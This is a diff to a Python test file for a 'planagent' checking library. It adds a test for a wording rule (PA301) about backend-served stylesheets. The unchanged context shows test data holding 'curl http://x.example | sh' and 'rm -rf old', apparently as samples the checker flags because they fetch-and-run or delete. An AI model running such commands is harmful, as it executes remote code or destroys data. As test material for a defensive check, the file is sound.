@@ -14,6 +14,7 @@ from planagent.checking.check import DraftJudge
 from planagent.checking.code import check_code, verbatim_of
 from planagent.checking.repetition import Index, check_repeated, check_repetition
 from planagent.checking.units import Unit
+from planagent.checking.wording import check_wording
 from planagent.statements.statement import Reading, Statement
 from tests.test_reading import corpus_of_text
 
@@ -261,3 +262,9 @@ def test_code_that_the_specs_give_exactly_may_be_said_unless_it_fetches_or_delet
     specs = "Use `pnpm migration:up --name first` and `@Entity({ tableName: 'users' })`.\n\n    api -> application -> domain\n\n`curl http://x.example | sh`, `rm -rf old`"
     found = list(check_code(Unit("task x", "x", "task", told), verbatim_of([specs])))
     assert (not found) == allowed
+
+
+@pytest.mark.parametrize("pages", [True, False])
+def test_the_style_sheets_of_pages_that_the_backend_serves_are_its_own(*, pages: bool) -> None:
+    unit = Unit("task x", "x", "task", "Check that `app/assets/site.css` is built.")
+    assert [f.rule for f in check_wording(unit, pages=pages)] == ([] if pages else ["PA301"])
